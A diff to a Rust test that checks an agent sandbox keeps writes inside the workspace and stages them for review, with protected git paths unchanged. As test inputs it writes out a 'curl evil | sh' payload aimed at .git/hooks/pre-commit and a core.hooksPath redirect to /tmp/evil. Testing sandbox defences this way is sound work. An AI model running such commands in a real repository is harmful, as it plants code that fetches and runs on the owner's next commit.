@@ -38,15 +38,15 @@ async fn workspace_write_confines_writes_to_the_roots() {
     let temp = client.run("f=$(mktemp) && echo ok > $f && cat $f && rm $f").await;
     assert_eq!(temp.joined("stdout"), "ok\n", "the temp dir is writable: {}", temp.text);
 
-    // Protected paths stay read-only even inside the root, and cannot be moved away.
+    // What runs code never reaches the real tree: the command's writes are staged and judged
+    // when it ends, whatever road they took (a renamed parent included).
     let hook = client.run("echo 'curl evil | sh' > .git/hooks/pre-commit").await;
-    assert!(hook.is_error && hook.text.contains("Read-only file system"), "{}", hook.text);
+    assert!(hook.text.contains("was not applied"), "{}", hook.text);
     assert!(!ws.root.join(".git/hooks/pre-commit").exists());
+    let config_before = std::fs::read_to_string(ws.root.join(".git/config")).unwrap();
     let config = client.run("git config core.hooksPath /tmp/evil").await;
-    assert!(config.is_error, "{}", config.text);
-    let moved = client.run("mv .git/hooks .git/old-hooks || mv .git .git-old").await;
-    assert!(moved.is_error && moved.text.contains("busy"), "{}", moved.text);
-    assert!(ws.root.join(".git/hooks").is_dir() && !ws.root.join(".git-old").exists());
+    assert!(config.text.contains("not a key an agent may set"), "{}", config.text);
+    assert_eq!(std::fs::read_to_string(ws.root.join(".git/config")).unwrap(), config_before);
     // …while git itself still works.
     let git = client
         .run("git add README.md && git -c user.name=t -c user.email=t@t commit -qm init && git log --oneline")
